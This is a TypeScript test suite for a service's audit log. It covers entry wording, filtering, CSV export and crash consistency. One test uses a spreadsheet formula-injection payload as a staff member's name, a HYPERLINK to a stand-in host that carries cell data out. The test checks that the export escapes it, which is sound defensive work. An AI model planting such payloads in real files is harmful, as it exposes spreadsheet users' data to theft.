import { cp, mkdir, rename, rmdir } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it, onTestFinished } from 'vitest'
import type { AuditAnswer } from '../contract/people/audit'
import type { SessionAnswer } from '../contract/people/people'
import { sendCommand } from '../operator/socket'
import { auditFolder } from '../store/audit-files'
import { withDatabase } from '../store/shared-store'
import { CALLBACK } from '../testing/examples'
import { parseCsv, parseCsvRecords } from '../testing/parse-csv'
import { addPerson, invite, OWN_PASSWORD } from '../testing/people'
import { ENQUIRY, startTestService, stoppedClock, TEST_PASSWORD, type TestService } from '../testing/start-test-service'
import { startChild } from '../testing/store-child'
import { isOnFiles, onFiles, temporaryFolder } from '../testing/store-fixtures'
import type { AnnouncedChange, AnnounceTo } from './audit'
import { verifyAll } from './database-chain'
import { headWords, type Verdict, verifyChain } from './verify'

type Login = { authorization: string }
const dataOf = (service: TestService) => join(service.folder, 'data')

async function entriesOf(service: TestService, query = 'limit=500', login?: Login): Promise<AuditAnswer[]> {
  await service.context.audit.flush()
  const response = await service.get(`/api/admin/audit?${query}`, login ?? (await managerOf(service)))
  expect(response.status).toBe(200)
  return (await response.json()) as AuditAnswer[]
}

const managers = new WeakMap<TestService, Promise<Login>>()
/**
 * The session of a manager in a service. Only the first call for a service signs in; later calls return the same
 * session.
 */
function managerOf(service: TestService): Promise<Login> {
  const own = managers.get(service) ?? service.login()
  managers.set(service, own)
  return own
}

/** Describes an entry in one line, without its number and time. */
function inWords({ by, what, list, id, person, content, details = {} }: AuditAnswer): string {
  const who = typeof by === 'string' ? by : by.name
  const about = [list && `${list}/${id ?? '*'}`, person?.name, content && `${content}/${id}`]
  const more = Object.entries(details).map(([name, value]) => `${name}=${value}`)
  return [who, what, ...about, ...more].filter(Boolean).join(' ')
}

/** Verifies each chain of entries, in files or in a database. */
async function verified({ context: { config } }: TestService): Promise<Verdict[]> {
  if (config.databaseUrl === undefined) return [await verifyChain(auditFolder(config.dataDir))]
  return await withDatabase(config.databaseUrl, database => verifyAll(database, {}))
}

describe('the audit', () => {
  it('names who did what and when, and quotes no words of a visitor', async () => {
    const clock = stoppedClock()
    const service = await startTestService({ TRUST_PROXY: '1' }, clock)
    await service.postJson('/api/contact', ENQUIRY)
    await service.postJson('/api/callbacks', CALLBACK)
    await expect.poll(async () => (await service.context.store.counts()).undelivered).toBe(0)
    const shared = await managerOf(service)
    const from = (address: string) => ({ 'x-forwarded-for': address })
    const [ana, ben] = [await addPerson(service, 'manager', 'ana'), await addPerson(service, 'caseworker', 'ben')]

    await service.postJson('/api/admin/login', { password: 'wrong wrong wrong' }, from('198.51.100.1'))
    await service.postJson('/api/admin/login', { password: 'wrong wrong wrong' }, from('198.51.100.2'))
    await service.postJson(
      '/api/admin/login',
      { email: ben.email, password: OWN_PASSWORD, code: '000000' },
      from('198.51.100.3'),
    )
    await service.get('/api/admin/inquiries', ben.login)
    await service.get('/api/admin/inquiries/1', ben.login)
    await service.get('/api/admin/inquiries/1/thread', ben.login)
    await service.patchJson('/api/admin/inquiries/1', { isProcessed: true, spam: false }, ben.login)
    await service.patchJson('/api/admin/inquiries/1', { corrected: { sentOn: '2026-11-01' } }, ben.login)
    await service.patchJson('/api/admin/inquiries/1', { held: true }, { ...ben.login, 'if-match': '"another"' })
    await service.patchJson('/api/admin/inquiries/9', { held: true }, ben.login)
    await service.postJson('/api/admin/callbacks/1/mail', undefined, ben.login)
    await service.delete('/api/admin/callbacks/1', ben.login)
    await (await service.get('/api/admin/inquiries.csv?status=processed&sort=due', ana.login)).text()
    await (await service.get('/api/admin/inquiries.csv?q=Amina', ana.login)).text()
    await (await service.get('/api/admin/export?records=inquiries/1,callbacks/1,callbacks/7', ana.login)).text()
    await service.delete('/api/admin/callbacks/1', ana.login)
    await service.delete('/api/admin/callbacks/1', ana.login)
    const win = { title: 'Ban lifted', description: 'On appeal.', completedDate: '2026-11-02' }
    const { id } = (await (await service.postJson('/api/admin/content/case-wins', win, ana.login)).json()) as {
      id: number
    }
    await service.putJson(`/api/admin/content/case-wins/${id}`, { ...win, title: 'Lifted' }, ana.login)
    await service.delete(`/api/admin/content/case-wins/${id}`, ana.login)
    await service.patchJson(`/api/admin/people/${ben.id}`, { role: 'reader', name: 'Ben Sample' }, ana.login)
    await service.postJson('/api/admin/me/recovery-codes', undefined, ben.login)
    await service.putJson('/api/admin/shared-password', { on: false }, ana.login)
    await service.get('/api/admin/audit', shared)
    const sessions = (await (await service.get('/api/admin/sessions?of=all', ana.login)).json()) as SessionAnswer[]
    const session = sessions.find(({ person }) => person?.id === ben.id)
    await service.delete(`/api/admin/sessions/${session?.id}`, ana.login)
    await service.delete(`/api/admin/people/${ben.id}`, ana.login)
    await sendCommand(dataOf(service), 'people', ['invite', 'cas@example.org', '--name', 'Cas', '--role', 'reader'])
    clock.time += 61_000
    await service.postJson('/api/admin/logout', undefined, ana.login)
    await service.context.audit.flush()

    const again = await service.restart()
    const { entries } = await again.context.audit.page({ limit: 500 })
    expect(entries.map(inWords).reverse()).toEqual([
      'shared signed_in way=shared password',
      'shared signed_in way=shared password',
      'shared person_invited ana role=manager',
      'ana invitation_opened',
      'ana way_in_changed ana done=password set',
      'ana way_in_changed ana done=code set up',
      'ana signed_in way=code',
      'shared signed_in way=shared password',
      'shared person_invited ben role=caseworker',
      'ben invitation_opened',
      'ben way_in_changed ben done=password set',
      'ben way_in_changed ben done=code set up',
      'ben signed_in way=code',
      'nobody sign_in_failed way=shared password',
      'nobody sign_in_failed ben way=code',
      'ben record_opened inquiries/1',
      'ben record_changed inquiries/1 isProcessed=true spam=false',
      'ben record_changed inquiries/1 corrected=sentOn',
      'ben mail_retried callbacks/1',
      'ana records_exported inquiries/* sort=due status=processed number=1',
      'ana records_exported inquiries/* q=true',
      'ana export_ended inquiries/* number=1',
      'ana records_exported inquiries/1',
      'ana records_exported callbacks/1',
      'ana record_erased callbacks/1',
      `ana content_changed case-wins/${id} done=added`,
      `ana content_changed case-wins/${id} done=replaced`,
      `ana content_changed case-wins/${id} done=removed`,
      'ana person_changed ben name=Ben Sample',
      'ana person_changed Ben Sample role=reader',
      'Ben Sample way_in_changed Ben Sample done=recovery codes made',
      'ana shared_password_changed on=false',
      'ana sessions_ended Ben Sample number=1',
      'ana person_removed Ben Sample',
      'operator person_invited Cas role=reader',
      'ana signed_out',
      'nobody sign_in_failed way=shared password more=1',
    ])
    const told: AuditAnswer[] = []
    for await (const entry of again.context.audit.entries({})) told.push(entry)
    for (const text of ['Amina', 'amina@', 'detained this morning', CALLBACK.name, 'wrong wrong'])
      expect(JSON.stringify(told)).not.toContain(text)
    expect(await verified(again)).toMatchObject([{ entries: entries.length }])
  })

  it('can be read in pages, filtered by person, action, request and time, and downloaded as one file', async () => {
    const clock = stoppedClock()
    const service = await startTestService({}, clock)
    const login = await managerOf(service)
    for (let number = 0; number < 3; number++) await service.postJson('/api/contact', ENQUIRY)
    const ana = await addPerson(service, 'manager', 'ana')
    for (const id of [1, 2, 3]) await service.patchJson(`/api/admin/inquiries/${id}`, { held: true }, ana.login)
    clock.time += 24 * 60 * 60_000
    const again = await service.login()
    await service.patchJson('/api/admin/inquiries/3', { held: false }, again)

    const ids = async (query: string) => (await entriesOf(service, query, again)).map(({ id }) => id)
    expect(await ids('what=record_changed')).toEqual([3, 3, 2, 1])
    expect(await ids(`what=record_changed&who=${ana.id}`)).toEqual([3, 2, 1])
    expect(await ids('what=record_changed&who=shared')).toEqual([3])
    expect(await ids('list=inquiries&id=3')).toEqual([3, 3])
    const { reference = '' } = (await service.context.store.get('inquiries', 3)) ?? {}
    expect(await ids(`reference=${reference.toLowerCase()}`)).toEqual([3, 3])
    expect(await entriesOf(service, 'list=inquiries&id=3', again)).toMatchObject([{ reference }, { reference }])
    expect(await ids('reference=00000000')).toEqual([])
    expect(await ids('what=record_changed&from=2026-11-22')).toEqual([3])
    expect(await ids('what=record_changed&to=2026-11-22')).toEqual([3, 2, 1])
    expect(await ids('what=record_changed&to=2026-11-20')).toEqual([])
    const first = await service.get('/api/admin/audit?what=record_changed&limit=3', again)
    const next = /<([^>]+)>; rel="next"/.exec(first.headers.get('link') ?? '')?.[1] ?? ''
    const rest = await service.get(next, again)
    expect([((await rest.json()) as AuditAnswer[]).map(({ id }) => id), rest.headers.get('link')]).toEqual([[1], null])

    const file = await service.get('/api/admin/audit.csv?what=record_changed', again)
    expect(file.headers.get('content-disposition')).toMatch(
      /attachment; filename="haven-audit-what-record-changed-2026-11-22-100000\.csv"/,
    )
    const [head, ...rows] = parseCsv(await file.text())
    expect(head).toEqual([
      'n',
      'at',
      'by',
      'byId',
      'what',
      'list',
      'id',
      'person',
      'personId',
      'content',
      'details',
      'chain',
    ])
    expect(rows.map(row => [row[2], row[4], row[6], row[10]])).toEqual([
      ['Shared password', 'record_changed', '3', 'held: false'],
      ['ana', 'record_changed', '3', 'held: true'],
      ['ana', 'record_changed', '2', 'held: true'],
      ['ana', 'record_changed', '1', 'held: true'],
    ])
    expect((await entriesOf(service, 'what=audit_exported', again)).map(inWords)).toEqual([
      'shared audit_exported what=record_changed',
    ])

    const formula = '=HYPERLINK("https://spreadsheet.example/?"&A1,"Open")'
    await invite(service, { email: 'formula@example.org', name: formula, role: 'reader' }, again)
    const people = parseCsvRecords(await (await service.get('/api/admin/audit.csv?what=person_invited', again)).text())
    expect(people.map(({ person }) => person)).toContain(`'${formula}`)
    expect(login).not.toEqual(again)

    await service.postJson('/api/callbacks', CALLBACK)
    await service.patchJson('/api/admin/callbacks/1', { held: true }, again)
    const callback = (await service.context.store.get('callbacks', 1))?.reference
    const ofCallback = await entriesOf(service, `reference=${callback}`, again)
    expect(ofCallback.map(({ list, id }) => [list, id])).toEqual([['callbacks', 1]])
  })

  it('stores an entry before it answers a change or an export, and refuses both if it cannot store the entry', async () => {
    const service = await startTestService()
    await service.postJson('/api/contact', ENQUIRY)
    const login = await service.login()
    await service.context.audit.flush()
    const before = service.context.audit.head().n
    await service.patchJson('/api/admin/inquiries/1', { held: true }, login)
    expect(service.context.audit.head().n).toBe(before + 1)
    await service.context.store.close()
    expect((await service.patchJson('/api/admin/inquiries/1', { held: false }, login)).status).toBe(503)
    expect((await service.get('/api/admin/inquiries.csv', login)).status).toBe(503)
    expect((await service.get('/api/admin/audit.csv', login)).status).toBe(503)
    if (isOnFiles()) expect((await service.get('/api/admin/inquiries/1', login)).status).toBe(200)
    expect(service.context.audit.head().n).toBe(before + 1)
  })
})

/**
 * The process ends before the change, after the change, or when the audit has the change's entry and the announcement
 * still exists.
 */
describe('a process that ends between a change and its entry', () => {
  /** Starts a second service on a copy of the first one's files, as if the first process had been killed now. */
  async function killed(service: TestService) {
    const folder = await temporaryFolder()
    // Leaves out locks and sockets, and temporary files, which the running service may rename before the test copies
    // them.
    const isCopied = (path: string) => !/[/](lock[^/]*|[^/]*socket|[^/]*\.tmp)$/.test(path)
    await cp(service.folder, folder, { recursive: true, filter: isCopied })
    const { databaseUrl } = service.context.config
    return await startTestService(databaseUrl === undefined ? {} : { DATABASE_URL: databaseUrl }, { folder })
  }

  /**
   * Holds up a change, as if the process had been killed during the change. Rejects when the test ends, because `close`
   * waits for pending work.
   */
  let never: Promise<never>

  const CHANGES: Record<
    string,
    (
      service: TestService,
    ) => Promise<[Omit<AnnouncedChange, 'by'>, (announce: AnnounceTo, isMade: boolean) => Promise<unknown>]>
  > = {
    erased: async ({ context: { store } }) => [
      { event: { what: 'record_erased', list: 'inquiries', id: 1 }, subject: 'x' },
      async (announce, isMade) => {
        await announce({ of: 'erased', list: 'inquiries', id: 1 })
        if (isMade) await store.eraseRecord('inquiries', 1, async () => undefined)
      },
    ],
    person: async ({ context: { staff } }) => [
      { event: { what: 'person_invited' }, subject: 'x' },
      async (announce, isMade) => {
        const announced = await announce({ of: 'person' })
        if (isMade) await staff.people.add({ email: 'ana@example.org', name: 'ana', role: 'reader', announced })
      },
    ],
    entered: async ({ context: { store } }) => [
      { event: { what: 'record_entered', list: 'callbacks' }, subject: 'x' },
      async (announce, isMade) => {
        await announce({ of: 'entered', list: 'callbacks', key: 'entered:x' })
        const submission = { fields: CALLBACK, suspect: false, acknowledge: false }
        if (isMade) await store.submit('callbacks', submission, { key: 'entered:x', hash: 'x' })
      },
    ],
    removed: async ({ context: { staff } }) => {
      const person = await staff.people.add({ email: 'ben@example.org', name: 'ben', role: 'reader' })
      const id = person === 'taken' ? '' : person.id
      return [
        { event: { what: 'person_removed' }, subject: 'x' },
        async (announce, isMade) => {
          await announce({ of: 'removed', id })
          if (isMade) await staff.people.remove(id)
        },
      ]
    },
    sessions: async ({ context: { sessions } }) => {
      await sessions.start({ way: 'password' })
      const [{ key = '' } = {}] = await sessions.all()
      return [
        { event: { what: 'sessions_ended' }, subject: 'x' },
        async (announce, isMade) => {
          await announce({ of: 'sessions', keys: [key.slice(0, 16)] })
          if (isMade) await sessions.endWhere(() => true)
        },
      ]
    },
    content: async ({ context: { content } }) => [
      { event: { what: 'content_changed', content: 'team', id: 1 }, subject: 'x' },
      async (announce, isMade) => {
        const told = async (digest: string) => {
          await announce({ of: 'content', name: 'team', digest })
          if (!isMade) await never
        }
        await content.team.remove(1, { announce: told })
      },
    ],
    firm: async ({ context: { live } }) => [
      { event: { what: 'firm_changed', details: { parts: 'phones' } }, subject: 'x' },
      async (announce, isMade) => {
        const told = async (digest: string) => {
          await announce({ of: 'firm', digest })
          if (!isMade) await never
        }
        const office = { display: '020 7946 0777', dial: '+442079460777' }
        await live.change({ phones: { office, emergency: office } }, { by: 'shared', announce: told })
      },
    ],
    'shared password': async ({ context: { staff } }) => [
      { event: { what: 'shared_password_changed' }, subject: 'x' },
      async (announce, isMade) => {
        await announce({ of: 'shared-password', on: false })
        if (isMade) await staff.sharedPassword.end(true)
      },
    ],
  }

  it.each(Object.entries(CHANGES))(
    'has an entry for each stored change, and none for a change that was not stored: %s',
    async (_, prepare) => {
      for (const isMade of [false, true]) {
        const service = await startTestService()
        never = new Promise((_, reject) => onTestFinished(() => reject(new Error('the process has ended'))))
        never.catch(() => undefined)
        await service.postJson('/api/contact', ENQUIRY)
        await expect.poll(async () => (await service.context.store.counts()).undelivered).toBe(0)
        const [about, make] = await prepare(service)
        const before = service.context.audit.head().n
        let reached: () => void = () => undefined
        const there = new Promise<void>(resolve => {
          reached = resolve
        })
        const changing = service.context.audit.change({ ...about, by: 'operator' }, async announce => {
          const told: AnnounceTo = async trace => {
            const key = await announce(trace)
            if (!isMade) reached()
            return key
          }
          await make(told, isMade)
          reached()
          return await never
        })
        changing.catch(() => undefined)
        await there
        const again = await killed(service)
        const entries = (await again.context.audit.page({ limit: 9 })).entries.slice(
          0,
          again.context.audit.head().n - before,
        )
        expect(entries.map(({ what }) => what)).toEqual(isMade ? [about.event.what] : [])
        expect(await again.context.store.documents.keys('audit-intents')).toEqual([])
      }
    },
  )

  it.each([false, true])(
    'has an entry for each stored change of a record, and none for a change that was not stored: %s',
    async isMade => {
      const service = await startTestService()
      await service.postJson('/api/contact', ENQUIRY)
      await expect.poll(async () => (await service.context.store.counts()).undelivered).toBe(0)
      const { audit, store } = service.context
      const before = audit.head().n
      await new Promise<void>(resolve => {
        const event = { what: 'record_changed', list: 'inquiries', id: 1 } as const
        const changing = audit.changeRecord({ by: 'operator', event, subject: 'x' }, async told => {
          if (isMade) await store.change('inquiries', 1, { held: true }, undefined, told)
          resolve()
          return await new Promise<never>((_, reject) => onTestFinished(() => reject(new Error('it has ended'))))
        })
        changing.catch(() => undefined)
      })
      let again = await killed(service)
      for (let start = 0; start < 2; start++) {
        expect((await again.context.store.get('inquiries', 1))?.held).toBe(isMade)
        const { entries } = await again.context.audit.page({ limit: 9, what: ['record_changed'] })
        expect(entries).toEqual(isMade ? [expect.objectContaining({ by: 'operator', id: 1, n: before + 1 })] : [])
        for (const verdict of await verified(again)) expect(verdict.problem).toBeUndefined()
        // If the change was made, the stored record contains its audit entry, so each start finds the entry there.
        // The second start must not add the entry to the audit again.
        again = await again.restart()
      }
    },
  )

  it('makes no further change of a record while the audit lacks the entry of an earlier one', async () => {
    const service = await startTestService({ DATABASE_URL: '' })
    for (const body of [ENQUIRY, ENQUIRY]) await service.postJson('/api/contact', body)
    const login = await service.login()
    const path = join(auditFolder(dataOf(service)), `${new Date().toISOString().slice(0, 10)}.jsonl`)
    const hold = (id: number) => service.patchJson(`/api/admin/inquiries/${id}`, { held: true }, login)
    await service.context.audit.flush()
    await rename(path, `${path}.away`)
    expect((await hold(1)).status).toBe(503)
    await mkdir(path)
    expect((await hold(2)).status).toBe(503)
    await rmdir(path)
    await rename(`${path}.away`, path)
    expect((await service.context.store.get('inquiries', 2))?.held).toBe(false)
    expect((await hold(2)).status).toBe(200)
    const { entries } = await service.context.audit.page({ limit: 9, what: ['record_changed'] })
    expect(entries.map(({ id }) => id)).toEqual([2, 1])
  })

  it('reports a change once, even if its announcement is still there', async () => {
    const service = await startTestService()
    await service.postJson('/api/contact', ENQUIRY)
    const login = await service.login()
    const { documents } = service.context.store
    const update = documents.update.bind(documents)
    // The store now keeps each announcement that the audit tries to remove, as if the process had ended just before the
    // removal.
    documents.update = async (space, key, change) =>
      space === 'audit-intents' && change(undefined) === undefined ? undefined : await update(space, key, change)
    await service.delete('/api/admin/inquiries/1', login)
    expect(await documents.keys('audit-intents')).toHaveLength(1)
    const again = await service.restart()
    const { entries } = await again.context.audit.page({ limit: 9, what: ['record_erased'] })
    expect(entries).toHaveLength(1)
    expect(await again.context.store.documents.keys('audit-intents')).toEqual([])
  })

  onFiles()(
    'has an entry for each stored change, even if kill -9 ends it at any moment',
    async () => {
      const first = await startTestService()
      const turns = 40
      for (let number = 0; number < turns; number++) {
        await first.context.store.submit('inquiries', { fields: ENQUIRY, suspect: false, acknowledge: false })
        await first.context.store.submit('callbacks', { fields: CALLBACK, suspect: false, acknowledge: false })
      }
      const hash = first.context.config.adminPasswordHash ?? ''
      let service = await first.restart()
      for (let round = 0; round < 3; round++) {
        await service.close()
        const child = startChild('audit-writer.ts', [dataOf(service), hash, TEST_PASSWORD])
        await child.printed('open')
        await child.printed(String(2 + round))
        // Lets one turn of the event loop pass, so that the child can be in the middle of a change when it is killed.
        await new Promise(resolve => setImmediate(resolve))
        child.process.kill('SIGKILL')
        await child.ended()
        service = await service.restart()
        const { store, audit, staff, content } = service.context
        const { entries } = await audit.page({ limit: 500 })
        const idsOf = (what: string) => entries.filter(entry => entry.what === what).map(({ id }) => id)
        const processed = (await store.list('inquiries', { limit: 100, status: 'processed' })).records.map(
          ({ id }) => id,
        )
        expect([...new Set(idsOf('record_changed'))].sort()).toEqual(processed.sort())
        const left = (await store.list('callbacks', { limit: 100 })).records.map(({ id }) => id)
        const erased = Array.from({ length: turns }, (_, at) => at + 1).filter(id => !left.includes(id))
        expect(idsOf('record_erased').sort()).toEqual(erased.sort())
        const invited = entries.filter(({ what }) => what === 'person_invited').map(({ person }) => person?.name)
        expect(invited.sort()).toEqual((await staff.people.all()).map(({ name }) => name).sort())
        const titled = Number(/\d+/.exec(content.team.get(1)?.title ?? '')?.[0] ?? 0)
        expect(idsOf('content_changed').length).toBeGreaterThanOrEqual(titled)
        expect(await verifyChain(auditFolder(dataOf(service)), { noted: headWords(audit.head()) })).toMatchObject({
          entries: audit.head().n,
        })
      }
    },
    60_000,
  )
})
